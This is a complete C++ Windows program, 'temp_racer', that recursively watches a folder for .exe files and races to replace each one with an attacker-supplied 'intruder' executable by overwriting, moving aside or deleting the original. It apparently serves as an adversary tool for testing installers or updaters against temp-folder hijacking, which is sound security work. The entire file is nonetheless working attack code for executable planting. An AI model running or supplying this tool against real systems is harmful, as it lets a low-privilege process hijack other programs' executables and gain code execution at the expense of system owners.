// An ordinary program of the same user that tries to get its own program run
// in place of another's: it watches a folder and everything below it for
// programs (*.exe) and puts its intruder in their place as fast as it can, by
// writing over them, by removing them and by moving them aside.
//
//   temp_racer <folder> <intruder.exe> <seconds>
//
// Prints how many programs it saw and how many it replaced; exit code 0.

#include <windows.h>

#include <cstdio>
#include <cstdlib>
#include <set>
#include <string>
#include <vector>

namespace {

bool isProgram(const std::string& name) {
  if (name.size() < 4) return false;
  std::string suffix = name.substr(name.size() - 4);
  for (char& c : suffix) c = static_cast<char>(c >= 'A' && c <= 'Z' ? c + 32 : c);
  return suffix == ".exe";
}

void findPrograms(const std::string& folder, std::vector<std::string>& found) {
  WIN32_FIND_DATAA entry{};
  HANDLE search = FindFirstFileA((folder + "\\*").c_str(), &entry);
  if (search == INVALID_HANDLE_VALUE) return;
  do {
    const std::string name = entry.cFileName;
    if (name == "." || name == "..") continue;
    const std::string path = folder + "\\" + name;
    if (entry.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
      findPrograms(path, found);
    } else if (isProgram(name)) {
      found.push_back(path);
    }
  } while (FindNextFileA(search, &entry));
  FindClose(search);
}

// Any one way that works is enough.
bool replace(const std::string& program, const std::string& intruder) {
  if (CopyFileA(intruder.c_str(), program.c_str(), FALSE)) return true;
  const std::string aside = program + ".aside";
  if (MoveFileExA(program.c_str(), aside.c_str(), MOVEFILE_REPLACE_EXISTING) &&
      CopyFileA(intruder.c_str(), program.c_str(), TRUE))
    return true;
  return DeleteFileA(program.c_str()) && CopyFileA(intruder.c_str(), program.c_str(), TRUE);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "usage: temp_racer <folder> <intruder.exe> <seconds>\n");
    return 2;
  }
  const std::string folder = argv[1], intruder = argv[2];
  const ULONGLONG end = GetTickCount64() + 1000ull * std::strtoul(argv[3], nullptr, 10);
  std::set<std::string> seen, replaced;
  while (GetTickCount64() < end) {
    std::vector<std::string> programs;
    findPrograms(folder, programs);
    for (const std::string& program : programs) {
      seen.insert(program);
      if (!replaced.contains(program) && replace(program, intruder)) replaced.insert(program);
    }
  }
  std::printf("seen %zu replaced %zu\n", seen.size(), replaced.size());
  for (const std::string& program : replaced) std::printf("replaced %s\n", program.c_str());
  return 0;
}
